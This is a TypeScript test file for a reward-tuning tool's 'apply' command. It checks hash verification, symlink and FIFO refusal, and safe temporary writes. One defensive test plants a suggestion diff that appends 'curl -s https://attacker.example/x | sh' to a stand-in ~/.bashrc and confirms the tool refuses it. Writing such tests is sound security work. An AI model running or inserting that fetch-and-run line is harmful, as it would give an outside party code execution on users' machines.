// `rewardsmith apply RUN --suggestion ID`: the analyzer's patch lands in the user's reward file (the one the
// run recorded), after the diff is shown; a file changed since the run, an unknown id or a patch that no
// longer fits is refused and nothing is written.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { analyzeRun } from '../src/analyze/analyze';
import { patchReward } from '../src/analyze/patches';
import { unifiedDiff } from '../src/diff';
import { readSuggestions, RUN_FILES, RunRecordError } from '../src/records';
import { cliSession } from './helpers/cli-all';
import { tempDir } from './helpers/tmp';

const ROOT = path.join(__dirname, '..', '..');

/** The lava-deaths run, its summary pointing at a user's copy of the reward, analysed. */
async function analysedRun(): Promise<{ run: string; user: string; original: string }> {
  const dir = tempDir('rewardsmith-apply-');
  const run = path.join(dir, 'run');
  cpSync(path.join(__dirname, 'fixtures/runs/lava-deaths'), run, { recursive: true });
  const user = path.join(dir, 'explore-diamond.reward.ts');
  const original = readFileSync(path.join(run, RUN_FILES.rewardCopy), 'utf8');
  writeFileSync(user, original);
  const summaryFile = path.join(run, RUN_FILES.summary);
  const reward_sha256 = createHash('sha256').update(original).digest('hex');
  writeFileSync(summaryFile, JSON.stringify({ ...JSON.parse(readFileSync(summaryFile, 'utf8')), reward_file: user, reward_sha256 }, null, 2));
  const analysis = await analyzeRun(run);
  writeFileSync(path.join(run, RUN_FILES.suggestions), JSON.stringify({ version: 1, ...analysis }, null, 2));
  return { run, user, original };
}

// `rewardsmith apply ARGS…` through the real dispatcher, all of this file's in one process (helpers/cli-all.ts).
const session = cliSession(ROOT, 60_000);
after(() => session.close());
const cli = async (...args: string[]) => {
  const r = await session.run(['apply', ...args]);
  return { status: r.code, stdout: r.out, stderr: r.err };
};

test("apply shows the diff and patches the reward file the run recorded, not the run's copy", async () => {
  const { run, user, original } = await analysedRun();
  const dry = await cli(run, '--suggestion', 'death-lava', '--dry-run');
  assert.equal(dry.status, 0, dry.stderr);
  assert.equal(readFileSync(user, 'utf8'), original, 'a dry run writes nothing');
  const r = await cli(run, '--suggestion', 'death-lava');
  assert.equal(r.status, 0, r.stderr);
  // The file it will change is named before the diff, the diff before the change.
  const [first, ...rest] = r.stdout.split('\n');
  assert.equal(first, `patching ${user} (the reward file the run trained on: its sha256 matches summary.json's reward_sha256)`);
  assert.match(rest.join('\n'), /^--- a\/reward\.ts\n\+\+\+ b\/reward\.ts\n@@ /);
  assert.match(r.stdout, new RegExp(`applied death-lava to ${user.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}`));
  const patched = readFileSync(user, 'utf8');
  assert.notEqual(patched, original);
  const added = r.stdout
    .split('\n')
    .filter((l) => l.startsWith('+') && !l.startsWith('+++'))
    .map((l) => l.slice(1));
  for (const line of added) assert.ok(patched.split('\n').includes(line), `patched file lacks: ${line}`);
  assert.equal(readFileSync(path.join(run, RUN_FILES.rewardCopy), 'utf8'), original, "the run's copy stays as trained");
});

test('apply refuses a reward file that changed since the run, an unknown suggestion and a missing analysis', async () => {
  const { run, user, original } = await analysedRun();
  const edited = original.replace(/\n/, '\n// my edit after training\n');
  writeFileSync(user, edited);
  const changed = await cli(run, '--suggestion', 'death-lava');
  assert.equal(changed.status, 1);
  assert.match(
    changed.stderr,
    /^rewardsmith apply: .*explore-diamond\.reward\.ts is not the reward file the run trained on: its sha256 .* differs from summary\.json's reward_sha256 .*; nothing was changed\. If you edited it since, run `rewardsmith analyze .* --reward .*` for patches to the file as it is now; to patch a file of your choosing, name it: --to FILE/,
  );
  assert.equal(readFileSync(user, 'utf8'), edited);
  const typo = await cli(run, '--suggestion', 'death-lvaa');
  assert.equal(typo.status, 2);
  assert.match(typo.stderr, /--suggestion death-lvaa: no such suggestion in .* \(did you mean death-lava\?\)/);
  const none = await cli(path.join(run, 'eval'), '--suggestion', 'death-lava');
  assert.equal(none.status, 1);
  assert.match(none.stderr, /suggestions\.json: no analysis yet; run `rewardsmith analyze/);
  const missingId = await cli(run);
  assert.equal(missingId.status, 2);
  assert.match(missingId.stderr, /^rewardsmith apply: --suggestion ID is required/);
});

test('a malformed suggestions.json is refused with the file and the suggestion at fault, by apply and by the one reader', async (t) => {
  const { run, user, original } = await analysedRun();
  t.after(() => rmSync(path.dirname(run), { recursive: true, force: true }));
  const file = path.join(run, RUN_FILES.suggestions);
  const analysis = JSON.parse(readFileSync(file, 'utf8'));
  analysis.suggestions[1].lines = 'near the top';
  writeFileSync(file, JSON.stringify(analysis));
  const expected = `${file}: suggestions[1] (${analysis.suggestions[1].id}): lines must be [first, last], 1-based line numbers`;
  assert.throws(
    () => readSuggestions(run),
    (err: Error) => err instanceof RunRecordError && err.message === expected,
  );
  const r = await cli(run, '--suggestion', 'death-lava');
  assert.equal(r.status, 1);
  assert.equal(r.stderr, `rewardsmith apply: ${expected}\n`);
  assert.equal(readFileSync(user, 'utf8'), original, 'nothing is written');
});

/** A victim outside the run (a stand-in for ~/.bashrc) and a suggestion whose hunk fits it exactly. */
function hostileRecords(run: string): { bashrc: string; bashrcText: string } {
  const home = path.join(path.dirname(run), 'home');
  mkdirSync(home, { recursive: true });
  const bashrc = path.join(home, '.bashrc');
  const bashrcText = '# ~/.bashrc: executed by bash(1) for non-login shells.\nexport PATH="$HOME/bin:$PATH"\n';
  writeFileSync(bashrc, bashrcText);
  const hostile = unifiedDiff(bashrcText, bashrcText + 'curl -s https://attacker.example/x | sh\n', 'reward.ts').text;
  const suggestionsFile = path.join(run, RUN_FILES.suggestions);
  const analysis = JSON.parse(readFileSync(suggestionsFile, 'utf8'));
  analysis.rewardFile = null;
  analysis.suggestions[0].diff = hostile;
  writeFileSync(suggestionsFile, JSON.stringify(analysis, null, 2));
  return { bashrc, bashrcText };
}

const setSummary = (run: string, fields: Record<string, unknown>) => {
  const file = path.join(run, RUN_FILES.summary);
  writeFileSync(file, JSON.stringify({ ...JSON.parse(readFileSync(file, 'utf8')), ...fields }, null, 2));
};

test("apply never patches a file the records name unless it is the run's reward by content: a record pointing at ~/.bashrc is refused", async () => {
  const { run } = await analysedRun();
  const { bashrc, bashrcText } = hostileRecords(run);
  const id = JSON.parse(readFileSync(path.join(run, RUN_FILES.suggestions), 'utf8')).suggestions[0].id;
  // The record names the victim, with its hash forged to the victim's (a distribution's default file can be
  // known to the byte): not a reward module, so refused.
  setSummary(run, { reward_file: bashrc, reward_sha256: createHash('sha256').update(bashrcText).digest('hex') });
  const forged = await cli(run, '--suggestion', id);
  assert.equal(forged.status, 1, forged.stdout);
  assert.match(
    forged.stderr,
    /^rewardsmith apply: .*\.bashrc, named by .*summary\.json, is not a reward file \(\*\.reward\.ts, \*\.reward\.js or \*\.reward\.py\); nothing was changed/,
  );
  assert.equal(forged.stdout, '', 'nothing announced');
  assert.equal(readFileSync(bashrc, 'utf8'), bashrcText, 'nothing is written');
  // A module elsewhere whose content is not the trained reward (the hash is the run's own): refused.
  const tool = path.join(path.dirname(bashrc), 'tool.reward.js');
  writeFileSync(tool, bashrcText);
  setSummary(run, {
    reward_file: tool,
    reward_sha256: createHash('sha256')
      .update(readFileSync(path.join(run, RUN_FILES.rewardCopy)))
      .digest('hex'),
  });
  const mismatch = await cli(run, '--suggestion', id);
  assert.equal(mismatch.status, 1, mismatch.stdout);
  assert.match(
    mismatch.stderr,
    /^rewardsmith apply: .*tool\.reward\.js is not the reward file the run trained on: its sha256 [0-9a-f]{12}… differs from summary\.json's reward_sha256/,
  );
  assert.equal(readFileSync(tool, 'utf8'), bashrcText);
  // A link shipped inside the run folder, named like a reward, to a file whose content is public: the link is
  // resolved, and its target is no reward file.
  const pkg = path.join(path.dirname(bashrc), 'index.js');
  writeFileSync(pkg, bashrcText);
  const shipped = path.join(run, 'shipped.reward.ts');
  symlinkSync(pkg, shipped);
  setSummary(run, { reward_file: shipped, reward_sha256: createHash('sha256').update(bashrcText).digest('hex') });
  const linked = await cli(run, '--suggestion', id);
  assert.equal(linked.status, 1, linked.stdout);
  assert.match(linked.stderr, /shipped\.reward\.ts \(a link to .*index\.js\), named by .*summary\.json, is not a reward file/);
  assert.equal(readFileSync(pkg, 'utf8'), bashrcText);
  // A FIFO named like a reward: opened as the record says, it would never answer; refused at once instead.
  const fifo = path.join(path.dirname(bashrc), 'waiting.reward.ts');
  assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
  setSummary(run, { reward_file: fifo, reward_sha256: createHash('sha256').update(bashrcText).digest('hex') });
  const waiting = await cli(run, '--suggestion', id);
  assert.equal(waiting.status, 1, waiting.stdout);
  assert.match(
    waiting.stderr,
    /^rewardsmith apply: \S+waiting\.reward\.ts: not a plain file \(a FIFO\); not read \(the reward file recorded in \S+summary\.json\); nothing was changed/,
  );
  // No hash recorded: the path alone is not enough.
  setSummary(run, { reward_file: tool, reward_sha256: null });
  const unhashed = await cli(run, '--suggestion', id);
  assert.equal(unhashed.status, 1, unhashed.stdout);
  assert.match(
    unhashed.stderr,
    /does not record the sha256 of the reward it trained on, so the file it names cannot be checked; nothing was changed\. Name the file to patch: --to FILE/,
  );
  assert.equal(readFileSync(tool, 'utf8'), bashrcText);
});

test('apply --to FILE patches the file the user names, and says so first', async () => {
  const { run, user, original } = await analysedRun();
  setSummary(run, { reward_file: '/nonexistent/elsewhere.reward.ts', reward_sha256: null });
  const mine = path.join(path.dirname(run), 'mine.reward.ts');
  writeFileSync(mine, original);
  const r = await cli(run, '--suggestion', 'death-lava', '--to', mine);
  assert.equal(r.status, 0, r.stderr);
  assert.equal(r.stdout.split('\n')[0], `patching ${mine} (named with --to)`);
  assert.notEqual(readFileSync(mine, 'utf8'), original);
  assert.equal(readFileSync(user, 'utf8'), original, 'only the named file changes');
  const notes = path.join(path.dirname(run), 'notes.txt');
  writeFileSync(notes, original);
  const notReward = await cli(run, '--suggestion', 'death-lava', '--to', notes);
  assert.equal(notReward.status, 1);
  assert.match(notReward.stderr, /notes\.txt is not a reward file \(\.ts, \.js or \.py\)/);
});

test("apply's temporary file is created exclusively: a link placed at <reward>.rewardsmith-apply.tmp is refused, not written through", async () => {
  const { run, user, original } = await analysedRun();
  const victim = path.join(path.dirname(run), 'victim.txt');
  writeFileSync(victim, 'precious\n');
  const tmp = `${user}.rewardsmith-apply.tmp`;
  symlinkSync(victim, tmp);
  const r = await cli(run, '--suggestion', 'death-lava');
  assert.equal(r.status, 1, r.stdout);
  assert.match(r.stderr, /rewardsmith-apply\.tmp is a symbolic link \(to .*victim\.txt\); refusing to write through it, nothing was written/);
  assert.equal(readFileSync(victim, 'utf8'), 'precious\n');
  assert.ok(!lstatSync(user).isSymbolicLink(), 'the reward file is still a file');
  assert.equal(readFileSync(user, 'utf8'), original);
  // A plain file left there by a killed apply is replaced.
  rmSync(tmp);
  writeFileSync(tmp, 'half a write');
  const again = await cli(run, '--suggestion', 'death-lava');
  assert.equal(again.status, 0, again.stderr);
  assert.ok(!existsSync(tmp));
  assert.notEqual(readFileSync(user, 'utf8'), original);
});

/** A recorded run copied with its summary pointing at a user's copy of its reward. */
function userRun(fixture: string): { run: string; user: string; original: string } {
  const dir = tempDir('rewardsmith-apply-');
  const run = path.join(dir, 'run');
  cpSync(path.join(__dirname, 'fixtures/runs', fixture), run, { recursive: true });
  const user = path.join(dir, `${fixture}.reward.ts`);
  const original = readFileSync(path.join(run, RUN_FILES.rewardCopy), 'utf8');
  writeFileSync(user, original);
  const summaryFile = path.join(run, RUN_FILES.summary);
  const reward_sha256 = createHash('sha256').update(original).digest('hex');
  writeFileSync(summaryFile, JSON.stringify({ ...JSON.parse(readFileSync(summaryFile, 'utf8')), reward_file: user, reward_sha256 }, null, 2));
  return { run, user, original };
}

test('several suggestions that change different lines are applied in one go; two that change the same lines are refused, nothing written', async () => {
  const { run, user, original } = userRun('spin-in-place');
  const analysis = await analyzeRun(run);
  writeFileSync(path.join(run, RUN_FILES.suggestions), JSON.stringify({ version: 1, ...analysis }, null, 2));
  const added = (id: string) =>
    analysis.suggestions
      .find((s) => s.id === id)!
      .diff!.split('\n')
      .filter((l) => l.startsWith('+') && !l.startsWith('+++'))
      .map((l) => l.slice(1));

  const clash = await cli(run, '--suggestion', 'stuck', '--suggestion', 'target-lost');
  assert.equal(clash.status, 1);
  assert.match(clash.stderr, /the patch of target-lost does not apply after stuck .*they change the same lines\); nothing was changed\. Apply stuck first/);
  assert.equal(readFileSync(user, 'utf8'), original, 'all or none');

  // RUN last, after the list of ids, works too.
  const both = await cli('--suggestion', 'stuck', 'turning-farmed', run);
  assert.equal(both.status, 0, both.stderr);
  assert.match(both.stdout, /applied stuck, turning-farmed to /);
  const patched = readFileSync(user, 'utf8').split('\n');
  for (const line of [...added('stuck'), ...added('turning-farmed')]) assert.ok(patched.includes(line), `patched file lacks: ${line}`);
});

test('re-analysing with the patched reward compares returns of that reward (re-run), not the recorded ones of the trained reward', async () => {
  // The weak approach-tree run: with its own reward, failing pays more than succeeding (recorded returns).
  const { run, user } = userRun('weak-tree');
  const first = await analyzeRun(run);
  assert.match(first.suggestions.find((s) => s.id === 'reward-gamed')!.message, /Failing pays more than succeeding: mean return/);
  writeFileSync(path.join(run, RUN_FILES.suggestions), JSON.stringify({ version: 1, ...first }, null, 2));
  // A change to the reward that leaves its gaming in place: a pitch limit (the patch extreme-pitch writes).
  writeFileSync(user, patchReward(user, readFileSync(user, 'utf8'), { kind: 'pitch-limit', degrees: 15, why: 'a steep pitch costs.' }).patched);
  // The second analysis, of the file as patched: its returns are re-run over the recorded steps.
  const second = await analyzeRun(run, { rewardFile: user });
  const gamed = second.suggestions.find((s) => s.id === 'reward-gamed')!;
  assert.match(gamed.message, /succeeding with the reward analysed \(its returns re-run over the recorded last steps of every episode/);
  const [failedMean] = /mean return (-?[\d.]+) over 22 failed/.exec(gamed.message)!.slice(1);
  const [recordedMean] = /mean return (-?[\d.]+) over 22 failed/.exec(first.suggestions.find((s) => s.id === 'reward-gamed')!.message)!.slice(1);
  assert.notEqual(failedMean, recordedMean, "the old reward's returns are not reported beside the new reward's re-run figures");
});
